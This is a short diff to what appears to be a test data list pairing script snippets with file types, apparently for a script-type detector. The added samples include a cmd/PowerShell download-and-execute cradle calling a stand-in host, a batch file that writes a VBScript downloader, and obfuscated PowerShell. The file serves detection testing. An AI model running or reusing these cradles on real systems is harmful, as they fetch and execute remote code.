@@ -147,6 +147,15 @@ TEXTS = [
     ('<html><head><hta:application id="x"/></head><script language="VBScript">CreateObject("WScript.Shell")</script></html>', "script.hta"),
     ('<job id="x"><script language="VBScript">WScript.Echo 1</script></job>', "script.wsf"),
     ("RUN(A1)\nFORMULA.FILL(CHAR(65)&CHAR(66),B2)\nGET.CELL(17,C3)\n", "script.xlm"),
+    (
+        "cmd /c \"set a=IEX (New-Object Net.WebClient).DownloadString('http://a.example.test/')&&powershell invoke-expression $env:a\"",
+        "script.cmd",
+    ),
+    (
+        '@echo off\n>a.vbs echo Set x=CreateObject("MSXML2.XMLHTTP")\n>>a.vbs echo Set s=CreateObject("ADODB.Stream")\ncscript a.vbs',
+        "script.cmd",
+    ),
+    ('${;}=+$();${=}=${;};${+}=++${;};${@}=++${;};"${=}${+}"', "script.powershell"),
 ]
 
 
